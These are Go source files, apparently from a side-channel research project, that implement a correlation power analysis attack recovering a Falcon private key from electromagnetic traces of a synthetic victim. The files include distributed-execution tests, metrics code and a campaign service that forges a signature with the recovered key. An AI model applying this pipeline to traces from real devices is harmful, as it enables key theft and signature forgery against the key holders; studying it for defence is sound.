		results[v] = r
		improved = append(improved, v)
	}
	return improved, nil
}

// medianPrune returns the median prune correlation across values.
func medianPrune(results []ValueResult) float64 {
	vals := make([]float64, len(results))
	for i, r := range results {
		vals[i] = r.PruneCorr
	}
	for i := 1; i < len(vals); i++ {
		for j := i; j > 0 && vals[j] < vals[j-1]; j-- {
			vals[j], vals[j-1] = vals[j-1], vals[j]
		}
	}
	return vals[len(vals)/2]
}
