package core

import (
	"io"
	"runtime"
	"sync"

	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/tracestore"
)

// Source is the attack's streamed view of a campaign: a replayable,
// sequentially-iterable corpus (an alias of tracestore.Source, so disk
// corpora, slices and future backends all plug in). The whole-key attack
// makes a bounded number of passes over it — one per extend round plus a
// handful for exponents, prune, signs and retries — so peak memory never
// scales with the number of traces.
type Source = tracestore.Source

// sweep feeds every job one sequential pass over the corpus.
func sweep(src Source, jobs []passJob) error {
	it, err := src.Iterate()
	if err != nil {
		return err
	}
	defer it.Close()
	for {
		o, err := it.Next()
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return err
		}
		for _, j := range jobs {
			j.observe(o)
		}
	}
}

// runPass drives one logical campaign pass for all jobs. Jobs are
// partitioned across GOMAXPROCS workers, each running its own sweep with
// its own iterator, so no per-observation synchronization is needed and
// every job still sees the corpus in order — results are deterministic
// for any worker count.
func runPass(src Source, jobs []passJob) error {
	if len(jobs) == 0 {
		return nil
	}
	workers := runtime.GOMAXPROCS(0)
	if workers > len(jobs) {
		workers = len(jobs)
	}
	if workers <= 1 {
		return sweep(src, jobs)
	}
	per := (len(jobs) + workers - 1) / workers
	errs := make([]error, workers)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		lo := w * per
		hi := min(lo+per, len(jobs))
		if lo >= hi {
			break
		}
		wg.Add(1)
		go func(w int, part []passJob) {
			defer wg.Done()
			errs[w] = sweep(src, part)
		}(w, jobs[lo:hi])
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}

// mantItem names one value (index 2·coeff + part) and the beam
// configuration for its mantissa attack.
type mantItem struct {
	idx int
	cfg Config
}

// mantOut is the prune verdict of one value's mantissa attack.
type mantOut struct {
	d, c      uint64
	corr, gap float64
}

// runMantissa runs the extend rounds and the prune phase of all listed
// values against shared corpus passes: every pass feeds every value's
// round job, so the pass count is bounded by the round count (≤7 with the
// default 5-bit window), not by the number of values.
func runMantissa(src Source, items []mantItem) ([]mantOut, error) {
	los := make([]*extendState, len(items))
	his := make([]*extendState, len(items))
	states := make([]*extendState, 0, 2*len(items))
	for i, it := range items {
		coeff, part := it.idx/2, Part(it.idx%2)
		los[i] = newExtendState(coeff, part, loBits, false, it.cfg)
		his[i] = newExtendState(coeff, part, hiBits, true, it.cfg)
		states = append(states, los[i], his[i])
	}
	for {
		var jobs []passJob
		var active []*extendState
		for _, s := range states {
			if !s.done() {
				jobs = append(jobs, s.beginRound())
				active = append(active, s)
			}
		}
		if len(jobs) == 0 {
			break
		}
		if err := runPass(src, jobs); err != nil {
			return nil, err
		}
		for _, s := range active {
			s.endRound()
		}
	}
	pjobs := make([]*pruneJob, len(items))
	jobs := make([]passJob, len(items))
	for i, it := range items {
		pjobs[i] = newPruneJob(it.idx/2, Part(it.idx%2), los[i].cands, his[i].cands)
		jobs[i] = pjobs[i]
	}
	if err := runPass(src, jobs); err != nil {
		return nil, err
	}
	out := make([]mantOut, len(items))
	for i, pj := range pjobs {
		out[i].d, out[i].c, out[i].corr, out[i].gap = pj.result()
	}
	return out, nil
}

// AttackFFTf recovers the full FFT(f) vector from an in-memory campaign —
// a thin wrapper over the streamed attack.
func AttackFFTf(obs []emleak.Observation, cfg Config) ([]fft.Cplx, []ValueResult, error) {
	if len(obs) == 0 {
		return nil, nil, errNoTraces
	}
	return AttackFFTfFrom(tracestore.NewSliceSource(2*len(obs[0].CFFT), obs), cfg)
}

// AttackFFTfFrom recovers the full FFT(f) vector (all real and imaginary
// parts) from a streamed campaign. All values advance through the attack
// phases together — exponents, extend rounds, prune, joint signs — with
// each phase one shared pass over the corpus. After the first pass,
// values whose prune correlation falls far below the campaign's median (a
// reliable signature of the extend phase having dropped the true prefix)
// are re-attacked with a much larger candidate beam.
func AttackFFTfFrom(src Source, cfg Config) ([]fft.Cplx, []ValueResult, error) {
	cfg = cfg.withDefaults()
	if src == nil || src.Count() == 0 {
		return nil, nil, errNoTraces
	}
	n := src.N()
	half := n / 2
	count := src.Count()
	nVals := 2 * half

	// Exponent pass for every value.
	expJobs := make([]*expJob, nVals)
	jobs := make([]passJob, nVals)
	for v := range expJobs {
		expJobs[v] = newExpJob(v/2, Part(v%2))
		jobs[v] = expJobs[v]
	}
	if err := runPass(src, jobs); err != nil {
		return nil, nil, err
	}
	mags := make([]magnitude, nVals)
	for v := range mags {
		be, corr, alts := expJobs[v].result(n)
		mags[v] = magnitude{biasedExp: be, expAlts: alts, expCorr: corr}
	}

	// Extend + prune for every value, batched into shared passes.
	all := make([]mantItem, nVals)
	for v := range all {
		all[v] = mantItem{idx: v, cfg: cfg}
	}
	outs, err := runMantissa(src, all)
	if err != nil {
		return nil, nil, err
	}
	for v := range mags {
		mags[v].mant = assembleMant(outs[v].d, outs[v].c)
		mags[v].pruneCorr = outs[v].corr
		mags[v].gap = outs[v].gap
	}

	// Escalation: a weak prune winner usually means the extend phase
	// dropped the true prefix; re-run those values with a TopK×8 beam.
	if cfg.TopK < maxTopK {
		big := cfg
		big.TopK = min(cfg.TopK*8, maxTopK)
		var esc []mantItem
		for v := range mags {
			if mags[v].pruneCorr < cfg.EscalateBelow {
				esc = append(esc, mantItem{idx: v, cfg: big})
			}
		}
		if len(esc) > 0 {
			eouts, err := runMantissa(src, esc)
			if err != nil {
				return nil, nil, err
			}
			for i, it := range esc {
				if eouts[i].corr > mags[it.idx].pruneCorr {
					mags[it.idx].mant = assembleMant(eouts[i].d, eouts[i].c)
					mags[it.idx].pruneCorr = eouts[i].corr
					mags[it.idx].gap = eouts[i].gap
					mags[it.idx].escalated = true
				}
			}
		}
	}

	// Joint sign pass for every coefficient.
	jjobs := make([]*jointSignJob, half)
	jobs = jobs[:half]
	for k := 0; k < half; k++ {
		jjobs[k] = newJointSignJob(k, mags[2*k].abs(), mags[2*k+1].abs())
		jobs[k] = jjobs[k]
	}
	if err := runPass(src, jobs); err != nil {
		return nil, nil, err
	}

	out := make([]fft.Cplx, half)
	results := make([]ValueResult, nVals)
	thr := cpa.Threshold(cfg.Confidence, count)
	for k := 0; k < half; k++ {
		sRe, sIm, signCorr := jjobs[k].result()
		re := fpr.FPR(uint64(sRe)<<63) | mags[2*k].abs()
		im := fpr.FPR(uint64(sIm)<<63) | mags[2*k+1].abs()
		out[k] = fft.Cplx{Re: re, Im: im}
		for p, v := range []fpr.FPR{re, im} {
			m := mags[2*k+p]
			results[2*k+p] = ValueResult{
				Value:           v,
				SignCorr:        signCorr,
				ExpCorr:         m.expCorr,
				ExpAlternatives: m.expAlts,
				PruneCorr:       m.pruneCorr,
				RunnerUpGap:     m.gap,
				Escalated:       m.escalated,
				Significant:     signCorr >= thr && m.expCorr >= thr && m.pruneCorr >= thr,
				TracesUsed:      count,
			}
		}
	}

	// Second chance for stragglers: values far below the campaign's
	// median prune correlation re-run with the maximal beam (their extend
	// passes are shared); accepted fixes redo the joint sign attack with
	// the corrected magnitudes.
	med := medianPrune(results)
	retry := cfg
	retry.TopK = maxTopK
	retry.EscalateBelow = -1 // beam already maximal; no inner escalation
	var weak []mantItem
	for v := range results {
		if results[v].PruneCorr < 0.8*med {
			weak = append(weak, mantItem{idx: v, cfg: retry})
		}
	}
	if len(weak) > 0 {
		wouts, err := runMantissa(src, weak)
		if err != nil {
			return nil, nil, err
		}
		for i, it := range weak {
			v := it.idx
			k, part := v/2, Part(v%2)
			r := results[v]
			if wouts[i].corr <= r.PruneCorr {
				continue
			}
			mag := mags[v]
			mag.mant = assembleMant(wouts[i].d, wouts[i].c)
			old := out[k]
			sRe, sIm := old.Re.Sign(), old.Im.Sign()
			if part == PartRe {
				out[k].Re = fpr.FPR(uint64(sRe)<<63) | mag.abs()
			} else {
				out[k].Im = fpr.FPR(uint64(sIm)<<63) | mag.abs()
			}
			absRe := fpr.Abs(out[k].Re)
			absIm := fpr.Abs(out[k].Im)
			jj := newJointSignJob(k, absRe, absIm)
			if err := runPass(src, []passJob{jj}); err != nil {
				return nil, nil, err
			}
			s0, s1, signCorr := jj.result()
			out[k].Re = fpr.FPR(uint64(s0)<<63) | absRe
			out[k].Im = fpr.FPR(uint64(s1)<<63) | absIm
			r.Value = out[k].Re
			if part == PartIm {
				r.Value = out[k].Im
			}
			r.PruneCorr = wouts[i].corr
			r.RunnerUpGap = wouts[i].gap
			r.SignCorr = signCorr
			r.Escalated = true
			results[v] = r
		}
	}
	return out, results, nil
}

// medianPrune returns the median prune correlation across values.
func medianPrune(results []ValueResult) float64 {
	vals := make([]float64, len(results))
	for i, r := range results {
		vals[i] = r.PruneCorr
	}
	for i := 1; i < len(vals); i++ {
		for j := i; j > 0 && vals[j] < vals[j-1]; j-- {
			vals[j], vals[j-1] = vals[j-1], vals[j]
		}
	}
	return vals[len(vals)/2]
}
