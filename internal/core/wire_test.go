package core

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"falcondown/internal/cpa"
	"falcondown/internal/fft"
	"falcondown/internal/tracestore"
)

// The wire-layer differential suite: a fake in-process distributor that
// pushes every pass through the real wire codecs (JSON round trips of
// SourceSpec, JobSpec and ShardPartial) and deposits partials out of
// order, duplicated, and mixed with local fallback — the full attack must
// still land byte-identical to the serial single-machine reference. The
// cluster package lifts the same suite to real HTTP processes.

// fakeDistributor simulates a fleet inside the test process. The
// "worker side" rebuilds everything from the JSON wire forms against its
// own raw corpus handle, exactly as a remote node would.
type fakeDistributor struct {
	raw        Source // worker-side raw corpus
	shardsPer  int    // shards per task
	duplicate  bool   // deposit every remote partial twice
	localEvery int    // every k-th task degrades to coordinator-local compute
	dups       int    // duplicates dropped, accumulated across passes
	remote     int    // tasks served by the "fleet"
	local      int    // tasks served by local fallback
}

func (d *fakeDistributor) RunPass(p *DistPass) error {
	// Round-trip the pass description through JSON: the worker must be
	// able to rebuild the pass from bytes alone.
	var view SourceSpec
	var specs []JobSpec
	if err := jsonRecode(p.View(), &view); err != nil {
		return err
	}
	if err := jsonRecode(p.Jobs(), &specs); err != nil {
		return err
	}
	step := d.shardsPer
	if step <= 0 {
		step = 2
	}
	type task struct{ lo, hi int }
	var tasks []task
	for lo := 0; lo < p.NumShards(); lo += step {
		tasks = append(tasks, task{lo, min(lo+step, p.NumShards())})
	}
	// Serve tasks in reverse order so partials always arrive out of fold
	// order — the coordinator's in-order fold must not care.
	for i := len(tasks) - 1; i >= 0; i-- {
		tk := tasks[i]
		var parts []ShardPartial
		var err error
		if d.localEvery > 0 && i%d.localEvery == 0 {
			parts, err = p.Compute(tk.lo, tk.hi, 0, p.NumJobs())
			d.local++
		} else {
			remote, cerr := ComputeShardPartials(d.raw, view, specs, tk.lo, tk.hi)
			if cerr != nil {
				return cerr
			}
			if err = jsonRecode(remote, &parts); err != nil {
				return err
			}
			d.remote++
		}
		if err != nil {
			return err
		}
		for k := len(parts) - 1; k >= 0; k-- {
			if err := p.Deposit(0, parts[k]); err != nil {
				return err
			}
			if d.duplicate {
				if err := p.Deposit(0, parts[k]); err != nil {
					return err
				}
			}
		}
	}
	d.dups += p.Duplicates()
	return nil
}

func jsonRecode(in, out any) error {
	b, err := json.Marshal(in)
	if err != nil {
		return err
	}
	return json.Unmarshal(b, out)
}

// runAttackDistributed mirrors runAttackAt through a distributor.
func runAttackDistributed(t *testing.T, src Source, cfg Config, dist Distributor) ([]fft.Cplx, []ValueResult, []byte) {
	t.Helper()
	store := &FileCheckpoint{Path: filepath.Join(t.TempDir(), "attack.ckpt")}
	out, vals, err := AttackFFTfDistributed(src, cfg, store, dist)
	if err != nil {
		t.Fatalf("distributed attack: %v", err)
	}
	sidecar, err := os.ReadFile(store.Path)
	if err != nil {
		t.Fatal(err)
	}
	return out, vals, sidecar
}

func TestDistributedAttackBitIdenticalToSerial(t *testing.T) {
	dev, _, _ := deviceFor(t, 8, 2.0, 51)
	obs := collect(t, dev, 400, 52)
	src := tracestore.NewSliceSource(8, obs)

	refOut, refVals, refSidecar := runAttackAt(t, src, Config{}, 1)
	for _, d := range []*fakeDistributor{
		{raw: src, shardsPer: 1},
		{raw: src, shardsPer: 3, duplicate: true},
		{raw: src, shardsPer: 2, localEvery: 2},
	} {
		out, vals, sidecar := runAttackDistributed(t, src, Config{}, d)
		label := fmt.Sprintf("shardsPer=%d dup=%v localEvery=%d", d.shardsPer, d.duplicate, d.localEvery)
		sameAttackOutput(t, label, refOut, refVals, refSidecar, out, vals, sidecar)
		if d.duplicate && d.dups == 0 {
			t.Fatalf("%s: duplicated every deposit but none were dropped", label)
		}
		if d.localEvery > 0 && d.local == 0 {
			t.Fatalf("%s: local fallback configured but never exercised", label)
		}
	}
}

func TestDistributedRobustAttackBitIdenticalToSerial(t *testing.T) {
	// The robust path ships mask layers and the frozen preprocessing plan
	// over the wire; a worker rebuilding the view from the spec must see
	// the identical transformed bytes.
	dev, _, _ := deviceFor(t, 8, 1.5, 53)
	obs := dirtyCorpus(t, dev, 500)
	src := tracestore.NewSliceSource(8, obs)
	cfg := Config{Robust: RobustConfig{TrimSigmas: 4, ResyncShift: 2, Winsorize: 4}}

	refOut, refVals, refSidecar := runAttackAt(t, src, cfg, 1)
	d := &fakeDistributor{raw: src, shardsPer: 2, duplicate: true}
	out, vals, sidecar := runAttackDistributed(t, src, cfg, d)
	sameAttackOutput(t, "robust distributed", refOut, refVals, refSidecar, out, vals, sidecar)
	if d.remote == 0 {
		t.Fatal("robust distributed run never reached the fleet")
	}
}

func TestDistributedResumeSwitchesToLocal(t *testing.T) {
	// A campaign checkpointed by the coordinator of a fleet must resume on
	// a single machine (and vice versa) bit-identically: the sidecar is
	// topology-free all the way up to process granularity.
	dev, _, _ := deviceFor(t, 8, 2.0, 55)
	obs := collect(t, dev, 400, 56)
	src := tracestore.NewSliceSource(8, obs)

	refOut, refVals, refSidecar := runAttackAt(t, src, Config{}, 1)

	store := &FileCheckpoint{Path: filepath.Join(t.TempDir(), "attack.ckpt")}
	d := &fakeDistributor{raw: src, shardsPer: 2}
	_, _, err := AttackFFTfDistributed(src, Config{}, &failingStore{inner: store, remaining: 2}, d)
	if !errors.Is(err, errKilled) {
		t.Fatalf("interrupted distributed run returned %v, want simulated crash", err)
	}

	out, vals, err := AttackFFTfResumable(src, Config{}, store)
	if err != nil {
		t.Fatalf("local resume of distributed checkpoint: %v", err)
	}
	sidecar, err := os.ReadFile(store.Path)
	if err != nil {
		t.Fatal(err)
	}
	sameAttackOutput(t, "distributed→local resume", refOut, refVals, refSidecar, out, vals, sidecar)
}

func TestDepositRejectsCorruptPartials(t *testing.T) {
	// Shape corruption — wrong engine counts, wrong hypothesis widths,
	// mis-addressed shards — must reject the whole partial without folding
	// anything; the attack result stays identical to the serial reference.
	dev, _, _ := deviceFor(t, 8, 2.0, 57)
	obs := collect(t, dev, 200, 58)
	src := tracestore.NewSliceSource(8, obs)

	refOut, refVals, refSidecar := runAttackAt(t, src, Config{}, 1)
	d := &corruptingDistributor{fakeDistributor: fakeDistributor{raw: src, shardsPer: 2}}
	out, vals, sidecar := runAttackDistributed(t, src, Config{}, d)
	sameAttackOutput(t, "corrupting distributor", refOut, refVals, refSidecar, out, vals, sidecar)
	if d.rejected == 0 {
		t.Fatal("no corrupted partial was ever offered and rejected")
	}
}

// corruptingDistributor serves each pass like fakeDistributor, but first
// offers a deliberately corrupted copy of the first partial of each pass
// and demands the coordinator rejects it.
type corruptingDistributor struct {
	fakeDistributor
	rejected int
	pass     int
}

func (d *corruptingDistributor) RunPass(p *DistPass) error {
	var view SourceSpec
	var specs []JobSpec
	if err := jsonRecode(p.View(), &view); err != nil {
		return err
	}
	if err := jsonRecode(p.Jobs(), &specs); err != nil {
		return err
	}
	if p.NumShards() > 0 {
		clean, err := ComputeShardPartials(d.raw, view, specs, 0, 1)
		if err != nil {
			return err
		}
		d.pass++
		for i, corrupt := range corruptedCopies(clean[0], p.NumShards()) {
			if err := p.Deposit(0, corrupt); err == nil {
				return fmt.Errorf("pass %d: corrupted partial %d folded without error", d.pass, i)
			}
			d.rejected++
		}
	}
	return d.fakeDistributor.RunPass(p)
}

// corruptedCopies derives shape-corrupted variants of a clean partial.
func corruptedCopies(sp ShardPartial, nShards int) []ShardPartial {
	var out []ShardPartial
	// Shard index outside the pass.
	bad := sp
	bad.Shard = nShards + 7
	out = append(out, bad)
	if len(sp.States) > 0 {
		st := sp.States[0]
		switch {
		case len(st.Engines) > 0:
			// Drop an engine: block shape no longer matches the job.
			bad = sp
			bad.States = append([]JobState(nil), sp.States...)
			bad.States[0] = JobState{Engines: st.Engines[:len(st.Engines)-1]}
			out = append(out, bad)
			// Truncate an engine's packed sums: length disagrees with the
			// declared hypothesis count.
			bad = sp
			bad.States = append([]JobState(nil), sp.States...)
			engines := append([]cpa.EngineState(nil), st.Engines...)
			engines[0].SumH = engines[0].SumH[:len(engines[0].SumH)/2]
			bad.States[0] = JobState{Engines: engines}
			out = append(out, bad)
		case st.Matrix != nil:
			// Lie about the matrix shape.
			m := *st.Matrix
			m.NHyp++
			bad = sp
			bad.States = append([]JobState(nil), sp.States...)
			bad.States[0] = JobState{Matrix: &m}
			out = append(out, bad)
		}
	}
	return out
}
