package core

import (
	"time"

	"falcondown/internal/cpa"
	"falcondown/internal/obs"
)

// Passive observability taps over the CPA sweep engine and the staged
// attack. Everything is recorded at pass/shard/stage granularity — the
// accumulator hot loop is untouched — and no metric feeds back into
// Config, the pinned shard fold, or any checkpoint, so recovered keys
// and sidecars are byte-identical with obs on or off (proven by the
// obs differential test in internal/cluster).
var (
	mSweepPasses = obs.NewCounter("falcon_sweep_passes_total",
		"corpus sweep passes executed (serial, parallel or distributed)")
	mSweepTraces = obs.NewCounter("falcon_sweep_traces_total",
		"traces streamed through sweep passes (corpus count x passes)")
	mSweepJobs = obs.NewCounter("falcon_sweep_jobs_total",
		"accumulator jobs carried by sweep passes")
	mSweepHypothesisUpdates = obs.NewCounter("falcon_sweep_hypothesis_updates_total",
		"hypothesis-accumulator updates (traces x jobs per pass)")
	mSweepPassSeconds = obs.NewHistogram("falcon_sweep_pass_seconds",
		"wall-clock of one full corpus sweep pass", obs.DurationBuckets)
	mSweepShardSeconds = obs.NewHistogram("falcon_sweep_shard_seconds",
		"wall-clock of folding one 64-observation shard into its jobs",
		[]float64{1e-5, 1e-4, 1e-3, 0.01, 0.1, 1})
	mAttackStageSeconds  = map[string]*obs.Histogram{}
	mSweepKernelSeconds  = map[cpa.Kernel]*obs.Histogram{}
	mSweepCellThroughput = obs.NewGauge("falcon_sweep_update_throughput",
		"accumulator-cell updates per second of the last sweep pass (traces x cells)")
)

func init() {
	for _, stage := range []string{StageExponents, StageMantissa,
		StageEscalation, StageSigns, StageStragglers} {
		mAttackStageSeconds[stage] = obs.NewHistogram(
			"falcon_attack_stage_seconds",
			"wall-clock of one completed attack stage",
			obs.DurationBuckets, obs.Label{Name: "stage", Value: stage})
	}
	for _, k := range cpa.Kernels() {
		mSweepKernelSeconds[k] = obs.NewHistogram(
			"falcon_sweep_kernel_seconds",
			"wall-clock of one sweep pass, by execution kernel",
			obs.DurationBuckets, obs.Label{Name: "kernel", Value: k.String()})
	}
}

// kernelJob is implemented by pass jobs that expose which kernel they run
// and how many accumulator cells (hypothesis x sample sums) one
// observation updates — the denominators of the sweep throughput gauge.
type kernelJob interface {
	kernel() cpa.Kernel
	cells() int
}

// observeKernels attributes a finished pass to its jobs' kernels and
// refreshes the cell-update throughput gauge. Jobs without kernel
// introspection (welford) contribute timing to the scalar bucket only.
func observeKernels(traces int, jobs []passJob, elapsed time.Duration) {
	seen := map[cpa.Kernel]bool{}
	cells := 0
	for _, j := range jobs {
		kj, ok := j.(kernelJob)
		if !ok {
			seen[cpa.KernelScalar] = true
			continue
		}
		seen[kj.kernel()] = true
		cells += kj.cells()
	}
	for k := range seen {
		if h := mSweepKernelSeconds[k]; h != nil {
			h.Observe(elapsed.Seconds())
		}
	}
	if sec := elapsed.Seconds(); sec > 0 && cells > 0 {
		mSweepCellThroughput.Set(float64(traces) * float64(cells) / sec)
	}
}

// observePass records one completed sweep pass. The per-trace and
// per-hypothesis rates campaignctl top derives come from these
// counters plus the pass histogram's sum.
func observePass(traces int, jobs []passJob, elapsed time.Duration) {
	mSweepPasses.Inc()
	mSweepTraces.Add(int64(traces))
	mSweepJobs.Add(int64(len(jobs)))
	mSweepHypothesisUpdates.Add(int64(traces) * int64(len(jobs)))
	mSweepPassSeconds.Observe(elapsed.Seconds())
	observeKernels(traces, jobs, elapsed)
}

// stageSpan times one attack stage; unknown stages get an inert span.
func stageSpan(stage string) *obs.Span {
	return obs.StartSpan(mAttackStageSeconds[stage])
}
