package core

import (
	"time"

	"falcondown/internal/obs"
)

// Passive observability taps over the CPA sweep engine and the staged
// attack. Everything is recorded at pass/shard/stage granularity — the
// accumulator hot loop is untouched — and no metric feeds back into
// Config, the pinned shard fold, or any checkpoint, so recovered keys
// and sidecars are byte-identical with obs on or off (proven by the
// obs differential test in internal/cluster).
var (
	mSweepPasses = obs.NewCounter("falcon_sweep_passes_total",
		"corpus sweep passes executed (serial, parallel or distributed)")
	mSweepTraces = obs.NewCounter("falcon_sweep_traces_total",
		"traces streamed through sweep passes (corpus count x passes)")
	mSweepJobs = obs.NewCounter("falcon_sweep_jobs_total",
		"accumulator jobs carried by sweep passes")
	mSweepHypothesisUpdates = obs.NewCounter("falcon_sweep_hypothesis_updates_total",
		"hypothesis-accumulator updates (traces x jobs per pass)")
	mSweepPassSeconds = obs.NewHistogram("falcon_sweep_pass_seconds",
		"wall-clock of one full corpus sweep pass", obs.DurationBuckets)
	mSweepShardSeconds = obs.NewHistogram("falcon_sweep_shard_seconds",
		"wall-clock of folding one 64-observation shard into its jobs",
		[]float64{1e-5, 1e-4, 1e-3, 0.01, 0.1, 1})
	mAttackStageSeconds = map[string]*obs.Histogram{}
)

func init() {
	for _, stage := range []string{StageExponents, StageMantissa,
		StageEscalation, StageSigns, StageStragglers} {
		mAttackStageSeconds[stage] = obs.NewHistogram(
			"falcon_attack_stage_seconds",
			"wall-clock of one completed attack stage",
			obs.DurationBuckets, obs.Label{Name: "stage", Value: stage})
	}
}

// observePass records one completed sweep pass. The per-trace and
// per-hypothesis rates campaignctl top derives come from these
// counters plus the pass histogram's sum.
func observePass(traces, jobs int, elapsed time.Duration) {
	mSweepPasses.Inc()
	mSweepTraces.Add(int64(traces))
	mSweepJobs.Add(int64(jobs))
	mSweepHypothesisUpdates.Add(int64(traces) * int64(jobs))
	mSweepPassSeconds.Observe(elapsed.Seconds())
}

// stageSpan times one attack stage; unknown stages get an inert span.
func stageSpan(stage string) *obs.Span {
	return obs.StartSpan(mAttackStageSeconds[stage])
}
