package campaign

import (
	"strings"
	"testing"

	"falcondown/internal/core"
)

func TestNormalizeFillsDefaults(t *testing.T) {
	s, err := Spec{Traces: 100}.Normalize(Limits{})
	if err != nil {
		t.Fatalf("Normalize: %v", err)
	}
	if s.Tenant != "default" || s.N != 64 || s.Noise != 2 || s.Devices != 1 || s.Message == "" {
		t.Fatalf("defaults not applied: %+v", s)
	}
}

func TestNormalizeRejections(t *testing.T) {
	base := Spec{N: 8, Traces: 100, Seed: 1}
	cases := []struct {
		name   string
		mutate func(*Spec)
		limits Limits
		want   string
	}{
		{"no traces", func(s *Spec) { s.Traces = 0 }, Limits{}, "traces"},
		{"negative traces", func(s *Spec) { s.Traces = -5 }, Limits{}, "traces"},
		{"bad degree", func(s *Spec) { s.N = 7 }, Limits{}, "degree"},
		{"negative workers", func(s *Spec) { s.Workers = -2 }, Limits{}, "workers"},
		{"absurd workers", func(s *Spec) { s.Workers = core.MaxWorkers + 1 }, Limits{}, "cap"},
		{"negative noise", func(s *Spec) { s.Noise = -1 }, Limits{}, "noise"},
		{"negative devices", func(s *Spec) { s.Devices = -1 }, Limits{}, "devices"},
		{"confidence one", func(s *Spec) { s.Confidence = 1 }, Limits{}, "confidence"},
		{"trace cap", nil, Limits{MaxTraces: 50}, "exceeds"},
		{"degree cap", nil, Limits{MaxN: 4}, "exceeds"},
		{"bad flaky spec", func(s *Spec) { s.Flaky = "0:nonsense" }, Limits{}, "flaky"},
		{"hang needs timeout", func(s *Spec) { s.Flaky = "0:hang"; s.Devices = 2 }, Limits{}, "timeout"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := base
			if tc.mutate != nil {
				tc.mutate(&s)
			}
			_, err := s.Normalize(tc.limits)
			if err == nil {
				t.Fatalf("spec accepted: %+v", s)
			}
			if !strings.Contains(strings.ToLower(err.Error()), tc.want) {
				t.Fatalf("error %q does not mention %q", err, tc.want)
			}
		})
	}
}

func TestNormalizeWorkersClampPassesValid(t *testing.T) {
	s, err := Spec{N: 8, Traces: 10, Workers: 4}.Normalize(Limits{})
	if err != nil {
		t.Fatalf("Normalize: %v", err)
	}
	if s.Workers != 4 {
		t.Fatalf("workers = %d, want 4", s.Workers)
	}
}

func TestSupervisedDetection(t *testing.T) {
	if (Spec{Devices: 1}).Supervised() {
		t.Fatal("single ideal device must not be supervised")
	}
	for _, s := range []Spec{{Devices: 3}, {Flaky: "0:hang"}, {TimeoutMS: 5}, {HedgeMS: 5}, {Breaker: 2}} {
		if !s.Supervised() {
			t.Fatalf("%+v should route through the supervised pool", s)
		}
	}
}
