// Package campaign turns the checkpointed attack pipeline into a
// long-running, multi-tenant service: campaigns are first-class objects
// (not CLI flag bundles) submitted to a bounded priority queue, executed
// through the existing resumable acquisition and five-phase checkpointed
// attack, and persisted under a per-campaign tracestore directory so a
// killed daemon re-adopts every in-flight campaign on restart.
//
// The subsystem is split along its moving parts:
//
//   - Spec / Campaign (this file): the validated, serializable campaign
//     definition and its runtime state;
//   - Store (store.go): the durable per-campaign directory layout;
//   - queue (queue.go): the bounded priority queue with tenant quotas;
//   - eventLog (events.go): streaming progress with long-poll waits;
//   - Server + runner (server.go, runner.go): slot workers that drive a
//     campaign through acquire -> attack -> forge, checkpointing all the
//     way;
//   - HTTP layer (http.go): the JSON API cmd/campaignd serves and
//     cmd/campaignctl consumes.
//
// DESIGN.md §3.5 documents the architecture and the re-adoption protocol.
package campaign

import (
	"errors"
	"fmt"
	"time"

	"falcondown/internal/core"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
)

// Spec is a campaign submission: everything needed to capture a trace
// corpus against the synthetic victim and run the key-extraction attack
// on it. All fields are plain scalars/strings so specs round-trip JSON
// losslessly and two equal specs drive byte-identical campaigns.
//
// The acquisition fields mirror cmd/tracegen flag-for-flag and use the
// same seed derivation, so a campaign's corpus is byte-identical to a
// tracegen run with the same parameters — the server adds service
// semantics, never different bytes.
type Spec struct {
	// Tenant is the quota-accounting identity (defaults to "default").
	Tenant string `json:"tenant,omitempty"`
	// Name is a free-form label echoed in listings.
	Name string `json:"name,omitempty"`
	// Priority orders the queue: higher runs first, ties run in
	// submission order.
	Priority int `json:"priority,omitempty"`

	// Victim + corpus parameters (the tracegen half).
	N      int     `json:"n"`
	Traces int     `json:"traces"`
	Noise  float64 `json:"noise,omitempty"`
	Seed   uint64  `json:"seed"`
	// ShardObs/ChunkObs select the corpus layout (0 = single file /
	// format-default chunking).
	ShardObs int `json:"shardObs,omitempty"`
	ChunkObs int `json:"chunkObs,omitempty"`

	// Supervised-pool parameters (optional; Devices > 1, a flaky spec, a
	// timeout, a hedge delay or a breaker threshold route acquisition
	// through internal/supervise exactly like tracegen's pool flags).
	Devices   int    `json:"devices,omitempty"`
	TimeoutMS int    `json:"timeoutMS,omitempty"`
	HedgeMS   int    `json:"hedgeMS,omitempty"`
	Breaker   int    `json:"breaker,omitempty"`
	Flaky     string `json:"flaky,omitempty"`

	// Attack tuning (the cmd/attack half; zero values take the core
	// defaults).
	TopK          int     `json:"topK,omitempty"`
	Window        int     `json:"window,omitempty"`
	Confidence    float64 `json:"confidence,omitempty"`
	EscalateBelow float64 `json:"escalateBelow,omitempty"`
	Trim          float64 `json:"trim,omitempty"`
	Resync        int     `json:"resync,omitempty"`
	Winsorize     float64 `json:"winsorize,omitempty"`
	Workers       int     `json:"workers,omitempty"`

	// Message is signed with the recovered key to demonstrate the break.
	Message string `json:"message,omitempty"`

	// Distributed asks for the attack sweeps to run over the server's
	// worker fleet (Config.Distributor). On a server without a fleet the
	// campaign runs locally — the results are byte-identical either way,
	// so the flag is a placement preference, never a semantic one.
	Distributed bool `json:"distributed,omitempty"`
}

// Limits bounds what a server accepts per campaign; zero fields are
// unlimited.
type Limits struct {
	// MaxTraces caps a campaign's trace budget.
	MaxTraces int
	// MaxN caps the victim degree.
	MaxN int
}

// errSpec marks a rejected submission (mapped to HTTP 400).
var errSpec = errors.New("campaign: invalid spec")

// Normalize validates the spec against the server limits and fills
// defaults, returning the canonical form that is persisted and executed.
func (s Spec) Normalize(limits Limits) (Spec, error) {
	if s.Tenant == "" {
		s.Tenant = "default"
	}
	if s.N == 0 {
		s.N = 64
	}
	if _, err := falcon.ParamsForDegree(s.N); err != nil {
		return s, fmt.Errorf("%w: %v", errSpec, err)
	}
	if limits.MaxN > 0 && s.N > limits.MaxN {
		return s, fmt.Errorf("%w: degree %d exceeds the server cap %d", errSpec, s.N, limits.MaxN)
	}
	if s.Traces <= 0 {
